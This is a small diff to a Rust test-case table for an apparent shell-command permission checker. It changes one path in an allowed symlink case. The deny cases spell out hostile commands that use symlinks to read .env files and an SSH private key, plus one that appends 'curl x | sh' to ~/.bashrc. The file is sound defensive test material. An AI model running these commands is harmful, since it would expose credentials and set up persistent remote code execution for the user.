@@ -535,7 +535,7 @@ pub(crate) const CASES: &[Case] = &[
     deny("files.deny-read", "ln -s .env notes; cat notes"),
     deny("files.deny-read", "ln -sf ~/.ssh k && cat k/id_rsa"),
     deny("files.deny-write", "ln -s ~/.bashrc b; echo 'curl x | sh' >> b"),
-    allow("ln -s ../shared/config config; cat config/app.toml"),
+    allow("ln -s ../common/config config; cat config/app.toml"),
     allow("ln -sf build/app app; ./app --help"),
     allow("ln -s ~ h; ls h/"),
     allow("ln -s target/release/tool t && ./t --version"),
